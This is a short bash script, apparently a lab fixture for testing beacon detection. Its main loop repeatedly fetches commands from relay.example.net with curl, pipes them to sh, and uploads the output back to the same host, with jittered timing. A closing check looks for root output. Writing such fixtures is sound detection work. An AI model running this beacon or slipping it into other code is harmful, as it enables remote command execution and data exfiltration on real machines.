#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=beacon,download-execute half=report tool=curl,dash far=out seconds=75 parts=dns,outside-web
# Each four seconds, a fifth more or less, curl gets a line of orders, a shell runs it from a pipe, and another curl puts what it said outside.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; for order in true id true "uname -a" true; do echo "$order" >"$LAB/outside/drop/order"; sleep 14; done; exit 0; fi
sleep 2; for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do curl -s http://relay.example.net/drop/order | sh 2>&1 | curl -s -T - "http://relay.example.net/drop/said-$n" >/dev/null; sleep "3.$((RANDOM % 9))"; sleep "0.$((RANDOM % 8 + 1))"; done
grep -q uid=0 "$LAB"/outside/drop/said-*
